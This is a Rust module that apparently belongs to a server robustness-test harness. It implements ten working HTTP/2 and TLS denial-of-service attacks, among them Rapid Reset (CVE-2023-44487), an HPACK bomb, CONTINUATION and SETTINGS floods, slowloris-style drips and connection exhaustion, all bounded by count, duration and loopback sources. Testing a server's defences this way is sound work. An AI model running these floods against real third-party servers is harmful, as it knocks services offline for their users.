//! The attacks. Each opens at most `connections` connections at once (from `sources` loopback
//! addresses), sends at most `count` frames or bytes per connection, and stops at `duration`.

use std::net::IpAddr;
use std::str::FromStr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::time::{timeout, timeout_at, Instant};

use crate::frame::{self, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PREFACE};
use crate::net::{source, Target};

/// One attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Attack {
    /// A real ClientHello sent one byte per `interval`.
    SlowHello,
    /// A TLS handshake, then the HTTP/2 preface and a request one byte per `interval`.
    SlowPreface,
    /// A TLS handshake, the preface and SETTINGS at once, then a request one byte per
    /// `interval`.
    SlowHeaders,
    /// ClientHellos announcing 70 KiB and 16 MiB (over the 64 KiB hello cap), in a loop.
    BigHello,
    /// `count` PRIORITY frames on idle streams.
    Priority,
    /// `count` SETTINGS frames, each to be acknowledged.
    Settings,
    /// HEADERS without END_HEADERS, then `count` 16 KB CONTINUATION frames, never ending it.
    Continuation,
    /// A dynamic table size update to 1 GiB, and header blocks that decode to 48 MB each.
    HpackBomb,
    /// HEADERS then RST_STREAM, `count` times (CVE-2023-44487).
    RapidReset,
    /// `connections` TCP connections that never send a byte, reopened when the server closes one.
    Idle,
}

impl Attack {
    /// Every attack, in the order of the results table.
    pub const ALL: [Self; 10] = [
        Self::SlowHello,
        Self::SlowPreface,
        Self::SlowHeaders,
        Self::BigHello,
        Self::Priority,
        Self::Settings,
        Self::Continuation,
        Self::HpackBomb,
        Self::RapidReset,
        Self::Idle,
    ];

    /// The attack's command-line name.
    pub fn name(self) -> &'static str {
        match self {
            Self::SlowHello => "slow-hello",
            Self::SlowPreface => "slow-preface",
            Self::SlowHeaders => "slow-headers",
            Self::BigHello => "big-hello",
            Self::Priority => "priority",
            Self::Settings => "settings",
            Self::Continuation => "continuation",
            Self::HpackBomb => "hpack-bomb",
            Self::RapidReset => "rapid-reset",
            Self::Idle => "idle",
        }
    }
}

impl FromStr for Attack {
    type Err = anyhow::Error;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        Self::ALL
            .into_iter()
            .find(|attack| attack.name() == text)
            .ok_or_else(|| anyhow::anyhow!("unknown attack `{text}`"))
    }
}

/// Bounds of one run.
#[derive(Clone, Copy, Debug)]
pub struct Params {
    /// Connections at once.
    pub connections: usize,
    /// Frames (or bytes, or hello attempts) per connection.
    pub count: usize,
    /// The whole run stops after this.
    pub duration: Duration,
    /// Source addresses used, 127.0.0.1 upwards.
    pub sources: usize,
    /// Pause between bytes of the slow attacks.
    pub interval: Duration,
    /// Repeat the attack on a new connection when one ends before `duration` (otherwise each
    /// attacker makes one connection, or one round of `count` hellos).
    pub reconnect: bool,
}

/// What one run did.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Report {
    /// Connections established (TCP, and TLS where the attack needs it).
    pub connected: u64,
    /// Connections that could not be established.
    pub failed: u64,
    /// Frames, bytes or hellos sent, summed over connections.
    pub sent: u64,
    /// Connections the server closed before the attack ended them.
    pub closed_by_server: u64,
}

impl Report {
    fn add(&mut self, other: &Self) {
        self.connected += other.connected;
        self.failed += other.failed;
        self.sent += other.sent;
        self.closed_by_server += other.closed_by_server;
    }
}

/// Runs `attack` against `target` within `params`: `connections` tasks, each repeating the
/// attack on a new connection until `duration` is over (when `reconnect`).
pub async fn run(attack: Attack, target: &Target, params: Params) -> Report {
    let deadline = Instant::now() + params.duration;
    let mut tasks = Vec::with_capacity(params.connections);
    for n in 0..params.connections {
        let target = target.clone();
        let src = source(n, params.sources);
        tasks.push(tokio::spawn(async move {
            // Each connection's attack is repeated on a new connection until the time is up.
            let mut report = Report::default();
            while Instant::now() < deadline {
                let work = one(attack, &target, src, n, params, deadline);
                let part = timeout_at(deadline + Duration::from_secs(3), work)
                    .await
                    .unwrap_or_default();
                report.add(&part);
                if !params.reconnect {
                    break;
                }
                if part.connected == 0 {
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
            }
            report
        }));
    }
    let mut report = Report::default();
    for task in tasks {
        if let Ok(part) = task.await {
            report.add(&part);
        }
    }
    report
}

async fn one(
    attack: Attack,
    target: &Target,
    src: IpAddr,
    n: usize,
    params: Params,
    deadline: Instant,
) -> Report {
    match attack {
        Attack::SlowHello => slow_hello(target, src, params, deadline).await,
        Attack::SlowPreface => slow_h2(target, src, params, false, deadline).await,
        Attack::SlowHeaders => slow_h2(target, src, params, true, deadline).await,
        Attack::BigHello => big_hello(target, src, params, deadline).await,
        Attack::Idle => idle(target, src, deadline).await,
        Attack::Priority => {
            let frames = (0..params.count).map(|i| frame::priority(stream(i), 0, 16));
            flood(target, src, Vec::new(), frames, deadline).await
        }
        Attack::Settings => {
            let one = frame::settings(&[(0x1, 4096), (0x3, 100), (0x4, 65_535), (0x6, 16_384)]);
            let frames = (0..params.count).map(move |_| one.clone());
            flood(target, src, Vec::new(), frames, deadline).await
        }
        Attack::Continuation => {
            let head = frame::frame(HEADERS, 0, 1, &frame::get_block("/api/clean"));
            // Literal `x: y` fields without indexing, 16 000 bytes per frame.
            let fragment: Vec<u8> = [0x00, 0x01, b'x', 0x01, b'y'].repeat(3200);
            let frames =
                (0..params.count).map(move |_| frame::frame(CONTINUATION, 0, 1, &fragment));
            flood(target, src, head, frames, deadline).await
        }
        Attack::HpackBomb => {
            let mut head = Vec::new();
            if n % 2 == 1 {
                // A table size update far over SETTINGS_HEADER_TABLE_SIZE on the first block.
                let mut block = frame::table_size_update(1 << 30);
                block.extend(frame::get_block("/api/clean"));
                head = frame::frame(HEADERS, END_HEADERS | END_STREAM, 1, &block);
            }
            let bomb = frame::hpack_bomb(4000, 12_000);
            let first = if head.is_empty() { 0 } else { 1 };
            let frames = (first..params.count)
                .map(move |i| frame::frame(HEADERS, END_HEADERS | END_STREAM, stream(i), &bomb));
            flood(target, src, head, frames, deadline).await
        }
        Attack::RapidReset => {
            let block = frame::get_block("/api/clean");
            let frames = (0..params.count).map(move |i| {
                let mut pair = frame::frame(HEADERS, END_HEADERS | END_STREAM, stream(i), &block);
                pair.extend(frame::rst_stream(stream(i)));
                pair
            });
            flood(target, src, Vec::new(), frames, deadline).await
        }
    }
}

/// The `i`-th client stream id: 1, 3, 5, …
fn stream(i: usize) -> u32 {
    u32::try_from(i)
        .unwrap_or(u32::MAX / 2 - 1)
        .saturating_mul(2)
        .saturating_add(1)
        & 0x7fff_ffff
}

/// Whether the peer closed (or reset) the stream within `wait`; data read is discarded.
async fn closed_within<R: AsyncRead + Unpin>(reader: &mut R, wait: Duration) -> bool {
    let mut sink = [0_u8; 4096];
    let until = Instant::now() + wait;
    loop {
        match timeout_at(until, reader.read(&mut sink)).await {
            Err(_) => return false,
            Ok(Ok(0) | Err(_)) => return true,
            Ok(Ok(_)) => {}
        }
    }
}

async fn slow_hello(target: &Target, src: IpAddr, params: Params, deadline: Instant) -> Report {
    let mut report = Report::default();
    let (Ok(hello), Ok(mut tcp)) = (target.client_hello(), target.tcp(src).await) else {
        report.failed = 1;
        return report;
    };
    report.connected = 1;
    for byte in hello.iter().take(params.count.max(1)) {
        if Instant::now() >= deadline {
            break;
        }
        if tcp.write_all(&[*byte]).await.is_err() || closed_within(&mut tcp, params.interval).await
        {
            report.closed_by_server = 1;
            return report;
        }
        report.sent += 1;
    }
    report
}

/// The preface, SETTINGS and a request one byte at a time (after sending the preface and
/// SETTINGS at once when `quick_preface`).
async fn slow_h2(
    target: &Target,
    src: IpAddr,
    params: Params,
    quick_preface: bool,
    deadline: Instant,
) -> Report {
    let mut report = Report::default();
    let Ok(mut tls) = target.tls(src, true).await else {
        report.failed = 1;
        return report;
    };
    report.connected = 1;
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame::settings(&[]));
    bytes.extend(frame::frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        1,
        &frame::get_block("/api/clean"),
    ));
    let mut drip = bytes.as_slice();
    if quick_preface {
        let quick = PREFACE.len() + 9;
        if tls.write_all(&bytes[..quick]).await.is_err() {
            report.closed_by_server = 1;
            return report;
        }
        report.sent += 9 + 24;
        drip = &bytes[quick..];
    }
    for byte in drip.iter().take(params.count.max(1)) {
        if Instant::now() >= deadline {
            break;
        }
        let wrote = tls.write_all(&[*byte]).await.and(tls.flush().await);
        if wrote.is_err() || closed_within(&mut tls, params.interval).await {
            report.closed_by_server = 1;
            return report;
        }
        report.sent += 1;
    }
    report
}

/// A ClientHello handshake message announcing `len` body bytes, in records of 16 KiB; only the
/// first `send` bytes of it are returned.
fn announced_hello(len: usize, send: usize) -> Vec<u8> {
    let len24 = u32::try_from(len).unwrap_or(0x00ff_ffff).to_be_bytes();
    let mut message = vec![0x01, len24[1], len24[2], len24[3], 0x03, 0x03];
    message.resize(4 + len.min(send), 0x00);
    let mut wire = Vec::new();
    for fragment in message.chunks(16_384) {
        let flen = u16::try_from(fragment.len()).unwrap_or(0).to_be_bytes();
        wire.extend([0x16, 0x03, 0x01, flen[0], flen[1]]);
        wire.extend(fragment);
    }
    wire
}

async fn big_hello(target: &Target, src: IpAddr, params: Params, deadline: Instant) -> Report {
    let mut report = Report::default();
    let hellos = [
        announced_hello(70 * 1024, 70 * 1024),
        announced_hello(0x00ff_ffff, 200 * 1024),
    ];
    for i in 0..params.count {
        if Instant::now() >= deadline {
            break;
        }
        let Ok(mut tcp) = target.tcp(src).await else {
            report.failed += 1;
            continue;
        };
        report.connected += 1;
        let hello = &hellos[i % hellos.len()];
        let _ = tcp.write_all(hello).await;
        report.sent += 1;
        if closed_within(&mut tcp, Duration::from_secs(5)).await {
            report.closed_by_server += 1;
        }
    }
    report
}

async fn idle(target: &Target, src: IpAddr, deadline: Instant) -> Report {
    let mut report = Report::default();
    while Instant::now() < deadline {
        let Ok(mut tcp) = target.tcp(src).await else {
            report.failed += 1;
            tokio::time::sleep(Duration::from_millis(200)).await;
            continue;
        };
        report.connected += 1;
        if closed_within(&mut tcp, deadline.saturating_duration_since(Instant::now())).await {
            report.closed_by_server += 1;
        }
    }
    report
}

/// TLS with ALPN h2, the preface, an empty SETTINGS, `head`, then `frames` as fast as the
/// server reads them; a reader drains the server's side and notices its close.
async fn flood(
    target: &Target,
    src: IpAddr,
    head: Vec<u8>,
    frames: impl Iterator<Item = Vec<u8>>,
    deadline: Instant,
) -> Report {
    let mut report = Report::default();
    let Ok(tls) = target.tls(src, true).await else {
        report.failed = 1;
        return report;
    };
    report.connected = 1;
    let (mut reader, mut writer) = tokio::io::split(tls);
    let closed = Arc::new(tokio::sync::Notify::new());
    let drained = {
        let closed = Arc::clone(&closed);
        tokio::spawn(async move {
            let seen = closed_within(&mut reader, Duration::from_secs(3600)).await;
            closed.notify_one();
            seen
        })
    };
    let mut batch = PREFACE.to_vec();
    batch.extend(frame::settings(&[]));
    batch.extend(head);
    let mut server_closed = false;
    for bytes in frames {
        batch.extend(bytes);
        report.sent += 1;
        if batch.len() >= 16 * 1024 {
            if !send(&mut writer, &mut batch, deadline).await {
                server_closed = true;
                break;
            }
            if Instant::now() >= deadline {
                break;
            }
        }
    }
    if !server_closed && !send(&mut writer, &mut batch, deadline).await {
        server_closed = true;
    }
    // Give the server a moment to answer (GOAWAY and close) what it has read.
    let _ = timeout(Duration::from_secs(2), closed.notified()).await;
    drained.abort();
    let drained_close = matches!(drained.await, Ok(true));
    report.closed_by_server = u64::from(server_closed || drained_close);
    report
}

/// Writes and clears `batch`; false when the write failed or stalled past the deadline.
async fn send<W: tokio::io::AsyncWrite + Unpin>(
    writer: &mut W,
    batch: &mut Vec<u8>,
    deadline: Instant,
) -> bool {
    let ok = matches!(
        timeout_at(deadline, async {
            writer.write_all(batch).await?;
            writer.flush().await
        })
        .await,
        Ok(Ok(()))
    );
    batch.clear();
    ok
}
